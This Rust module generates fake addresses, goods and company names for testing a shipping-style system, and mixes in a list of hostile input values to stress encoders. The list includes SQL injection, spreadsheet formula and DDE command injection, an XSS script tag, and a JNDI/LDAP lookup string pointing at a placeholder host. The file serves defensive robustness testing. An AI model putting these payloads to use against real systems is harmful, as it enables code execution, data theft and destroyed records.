//! Invented names, streets and goods, and values that break careless encoders.

use super::random::RandomStream;

#[rustfmt::skip]
const STREETS: [&str; 24] = [
    "Av. Los Álamos", "Jr. Las Gaviotas", "Calle del Sol", "Av. Independencia", "Calle 45 Sur", "Pje. Los Olivos",
    "Av. Costanera", "Jr. Comercio", "Calle Ñuñoa", "Av. Siempre Viva", "Carrera 13", "Diagonal Norte",
    "Av. Circunvalación", "Calle Real", "Jr. Huallaga", "Av. Patria", "Calle San Martín", "Camino Viejo",
    "Av. Industrial", "Calle Las Rosas", "Privada Jacarandas", "Blvd. Poniente", "Av. Mariscal", "Transversal 8",
];

const PARTS: [&str; 8] =
    ["", ", dpto {}", ", piso {}", " int. {}", ", casa {}", ", local {}", ", torre B, of. {}", " (ref. portón {})"];

#[rustfmt::skip]
const GOODS: [&str; 20] = [
    "zapatillas", "celular", "libro", "silla", "polo", "laptop", "juguete", "perfume", "lámpara", "mochila", "cafetera",
    "audífonos", "manta", "bicicleta", "cámara", "teclado", "florero", "vitaminas", "alimento para gato", "disco",
];

#[rustfmt::skip]
const FIRST: [&str; 20] = [
    "Andina", "Nova", "Del Valle", "Quinta", "Altamar", "Pacífico", "Lumen", "Tres Ríos", "Cóndor", "Mirasol", "Arrayán",
    "Boreal", "Celeste", "Damasco", "Estrella", "Ficus", "Granito", "Huarango", "Ínsula", "Jacinto",
];

#[rustfmt::skip]
const SECOND: [&str; 16] = [
    "Moda", "Hogar", "Libros", "Electro", "Deportes", "Mascotas", "Farma", "Juguetes", "Belleza", "Óptica", "Café",
    "Cocina", "Música", "Bebés", "Jardín", "Herramientas",
];

const FORMS: [&str; 8] = ["S.A.C.", "S.A.", "E.I.R.L.", "SpA", "S. de R.L. de C.V.", "S.A.S.", "Ltda.", "& Cía."];

/// Values that people and other systems really put into text fields. Each has broken some encoder, log or spreadsheet.
pub(super) const HOSTILE: [&str; 24] = [
    "O'Higgins 12, \"El Portal\", piso 3",
    "'; DROP TABLE trackcode; --",
    "=HYPERLINK(\"http://example.invalid/?\"&A1,\"ver\")",
    "+51 999 111 222",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd",
    "Av. Brasil 100\nPiso 2\nTocar el timbre",
    "Dos líneas\r\ny un retorno",
    "con\ttabulador",
    "📦 Envíos Ñandú 😀👩\u{200d}🚀",
    "مرحبا بالعالم",
    "株式会社サンプル",
    "e\u{301}\u{200b}\u{202e}abc",
    "C:\\envios\\nuevo\\tabla",
    "{\"id\": 1, \"nota\": null}",
    "<script>alert('hola')</script>",
    "%s %n ${jndi:ldap://example.invalid/a}",
    "\u{1}control\u{7f}",
    "",
    "   espacios   ",
    "NULL",
    "a,b;c|d",
    "\"",
    "una descripción que no termina nunca, porque quien la escribió pegó en el campo todo el texto de la página de la \
     tienda: medidas, colores, garantía, devoluciones, horario de atención, y la frase de siempre: gracias por su \
     compra; vuelva pronto; síganos en todas las redes; este mensaje se generó solo y no hace falta responder",
];

/// A street, a number, and often the part of the house. One in 250 is hostile.
pub(super) fn address(random: &mut RandomStream) -> String {
    if random.chance(40) {
        return (*random.pick(&HOSTILE)).to_owned();
    }
    let street = random.pick(&STREETS);
    let number = random.between(1, 4_999);
    let part = random.pick(&PARTS).replace("{}", &random.between(1, 1_500).to_string());
    format!("{street} {number}{part}")
}

/// The content of a parcel. One in 250 is hostile.
pub(super) fn goods(random: &mut RandomStream) -> String {
    if random.chance(40) {
        return (*random.pick(&HOSTILE)).to_owned();
    }
    format!("{} {}", random.pick(&GOODS), random.between(1, 9_999))
}

/// The registered name of a client, and its trade name.
pub(super) fn company(random: &mut RandomStream) -> (String, String) {
    let shop = format!("{} {}", random.pick(&FIRST), random.pick(&SECOND));
    let business = format!("{shop} {}", random.pick(&FORMS));
    match random.below(10) {
        0 => (business.to_uppercase(), shop.to_lowercase()),
        1 => (business, format!(" {shop}")),
        2 => (shop.to_lowercase(), shop),
        _ => (business, shop),
    }
}

/// Random hexadecimal digits.
pub(super) fn hex(random: &mut RandomStream, digits: usize) -> String {
    format!("{:016x}", random.word())[..digits].to_owned()
}

/// A random UUID (version 4) as text.
pub(super) fn uuid(random: &mut RandomStream) -> String {
    let (high, low) = (random.word(), random.word());
    let high = high & !0xf000 | 0x4000;
    let low = low & !(0b11 << 62) | 0b10 << 62;
    format!(
        "{:08x}-{:04x}-{:04x}-{:04x}-{:012x}",
        high >> 32,
        high >> 16 & 0xffff,
        high & 0xffff,
        low >> 48,
        low & 0xffff_ffff_ffff
    )
}
